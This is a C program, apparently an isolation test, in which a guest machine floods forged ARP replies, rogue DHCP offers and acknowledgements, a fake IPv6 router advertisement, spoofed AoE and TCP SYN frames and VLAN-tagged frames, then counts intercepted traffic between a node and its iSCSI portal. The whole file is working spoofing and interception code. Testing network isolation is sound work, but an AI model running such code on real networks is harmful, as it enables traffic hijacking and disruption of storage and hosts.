/* A guest's program that claims by raw frames what is not its own, over and over, and
 * counts what it receives of others' traffic.
 *
 *   attacker INTERFACE SECONDS NODE NODE_MAC PORTAL OTHER_NODE OWN_ADDRESS
 *
 * PORTAL is the iSCSI target, the gateway, the DHCP server and the operator in one.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef uint8_t u8;

static u8 own_mac[6], node_mac[6], all[6] = {255, 255, 255, 255, 255, 255};
static u8 node[4], portal[4], other[4], own[4];
static int wire;
static unsigned long sent, refused;

static void put(const u8 *frame, size_t length)
{
	if (send(wire, frame, length < 60 ? 60 : length, 0) < 0)
		refused++;
	else
		sent++;
}

static size_t header(u8 *frame, const u8 *to, const u8 *from, unsigned type)
{
	memset(frame, 0, 600);
	memcpy(frame, to, 6);
	memcpy(frame + 6, from, 6);
	frame[12] = type >> 8;
	frame[13] = type;
	return 14;
}

/* RFC 826. */
static void arp(const u8 *to, u8 operation, const u8 *sender, const u8 *target)
{
	static const u8 kinds[] = {0, 1, 8, 0, 6, 4, 0};
	u8 frame[600];
	size_t at = header(frame, to, own_mac, 0x0806);
	memcpy(frame + at, kinds, 7);
	frame[at + 7] = operation;
	memcpy(frame + at + 8, own_mac, 6);
	memcpy(frame + at + 14, sender, 4);
	memcpy(frame + at + 18, to, 6);
	memcpy(frame + at + 24, target, 4);
	put(frame, 42);
}

static void sum(u8 *header)
{
	unsigned long total = 0;
	header[10] = header[11] = 0;
	for (int at = 0; at < 20; at += 2)
		total += header[at] << 8 | header[at + 1];
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	header[10] = ~total >> 8;
	header[11] = ~total;
}

/* RFC 791; returns where the payload begins. */
static u8 *ipv4(u8 *frame, const u8 *to, const u8 *source, const u8 *target, u8 protocol, size_t payload)
{
	u8 *packet = frame + header(frame, to, own_mac, 0x0800);
	packet[0] = 0x45;
	packet[2] = (20 + payload) >> 8;
	packet[3] = 20 + payload;
	packet[8] = 64;
	packet[9] = protocol;
	memcpy(packet + 12, source, 4);
	memcpy(packet + 16, target, 4);
	sum(packet);
	return packet + 20;
}

static void udp(const u8 *to, const u8 *source, unsigned from, unsigned port, const u8 *body, size_t length)
{
	static const u8 everyone[4] = {255, 255, 255, 255};
	u8 frame[600];
	u8 *datagram = ipv4(frame, to, source, everyone, 17, 8 + length);
	datagram[0] = from >> 8, datagram[1] = from;
	datagram[2] = port >> 8, datagram[3] = port;
	datagram[4] = (8 + length) >> 8, datagram[5] = 8 + length;
	memcpy(datagram + 8, body, length);
	put(frame, 14 + 20 + 8 + length);
}

/* A SYN (RFC 9293, 3.1); the node drops it before it would look at its checksum. */
static void syn(unsigned port)
{
	u8 frame[600];
	u8 *segment = ipv4(frame, node_mac, own, node, 6, 20);
	segment[0] = 0x40, segment[1] = sent;
	segment[2] = port >> 8, segment[3] = port;
	segment[12] = 0x50, segment[13] = 2, segment[14] = 4;
	put(frame, 54);
}

static void tagged(unsigned protocol, unsigned vlan)
{
	u8 frame[600];
	size_t at = header(frame, all, own_mac, protocol);
	frame[at + 1] = vlan;
	frame[at + 2] = 8, frame[at + 3] = 6;
	put(frame, 64);
}

/* A router advertisement (RFC 4861, 4.2). */
static void router(void)
{
	static const u8 nodes[6] = {0x33, 0x33, 0, 0, 0, 1};
	u8 frame[600];
	u8 *packet = frame + header(frame, nodes, own_mac, 0x86dd);
	packet[0] = 0x60;
	packet[5] = 16, packet[6] = 58, packet[7] = 255;
	packet[8] = 0xfe, packet[9] = 0x80, packet[23] = 9;
	packet[24] = 0xff, packet[25] = 2, packet[39] = 1;
	packet[40] = 134, packet[44] = 64, packet[46] = 7;
	put(frame, 14 + 40 + 16);
}

static void aoe(void)
{
	u8 frame[600];
	size_t at = header(frame, node_mac, own_mac, 0x88a2);
	/* An answer of shelf 11, slot 2 (AoE r11, 2). */
	frame[at] = 0x18, frame[at + 3] = 11, frame[at + 4] = 2;
	put(frame, 60);
}

static void everything(void)
{
	static const u8 *const victims[] = {portal, node, other};
	u8 body[260] = {2, 1, 6, 0}, frame[600];
	for (int who = 0; who < 3; who++)
		for (u8 operation = 1; operation <= 2; operation++) {
			arp(node_mac, operation, victims[who], node);
			arp(all, operation, victims[who], node);
			arp(all, operation, victims[who], victims[who]);
			arp(all, operation, victims[who], portal);
		}
	udp(all, node, 9, 9, body, 20);
	udp(all, portal, 9, 9, body, 20);
	/* DHCPOFFER and DHCPACK to everyone (RFC 2131, 3). */
	memcpy(body + 16, own, 4);
	memcpy(body + 28, all, 6);
	memcpy(body + 236, "\x63\x82\x53\x63\x35\x01\x02\xff", 8);
	udp(all, own, 67, 68, body, sizeof body);
	body[242] = 5;
	udp(all, own, 67, 68, body, sizeof body);
	syn(7411);
	syn(3260);
	tagged(0x8100, 5);
	tagged(0x88a8, 5);
	router();
	aoe();
	header(frame, node_mac, node_mac, 0x0806);
	put(frame, 60);
}

static int is_stolen(const u8 *frame, long length)
{
	if (length < 34)
		return 0;
	if (frame[12] == 0x88 && frame[13] == 0xa2)
		return 1;
	/* Whatever goes between the node and its portal. */
	return frame[12] == 8 && frame[13] == 0 && (!memcmp(frame + 26, node, 4) || !memcmp(frame + 30, node, 4));
}

int main(int count, char **words)
{
	if (count != 8)
		return 2;
	struct ifreq request = {0};
	strncpy(request.ifr_name, words[1], IFNAMSIZ - 1);
	wire = socket(AF_PACKET, SOCK_RAW, htons(3));
	if (wire < 0 || ioctl(wire, SIOCGIFHWADDR, &request) < 0)
		return 3;
	memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
	ioctl(wire, SIOCGIFINDEX, &request);
	struct sockaddr_ll place = {
		.sll_family = AF_PACKET, .sll_protocol = htons(3), .sll_ifindex = request.ifr_ifindex};
	if (bind(wire, (struct sockaddr *)&place, sizeof place) < 0)
		return 4;
	inet_pton(AF_INET, words[3], node);
	if (sscanf(words[4], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", node_mac, node_mac + 1, node_mac + 2, node_mac + 3,
		   node_mac + 4, node_mac + 5) != 6)
		return 5;
	inet_pton(AF_INET, words[5], portal);
	inet_pton(AF_INET, words[6], other);
	inet_pton(AF_INET, words[7], own);
	unsigned long stolen = 0;
	time_t end = time(NULL) + atoi(words[2]);
	while (time(NULL) < end) {
		everything();
		struct pollfd ready = {.fd = wire, .events = POLLIN};
		while (poll(&ready, 1, 20) > 0) {
			u8 frame[2048];
			struct sockaddr_ll from;
			socklen_t size = sizeof from;
			long length = recvfrom(wire, frame, sizeof frame, 0, (struct sockaddr *)&from, &size);
			/* What was sent here is heard here, too. */
			stolen += length > 0 && from.sll_pkttype != PACKET_OUTGOING && is_stolen(frame, length);
		}
	}
	printf("TEST attack over: sent %lu refused %lu stolen %lu\n", sent, refused, stolen);
	return 0;
}
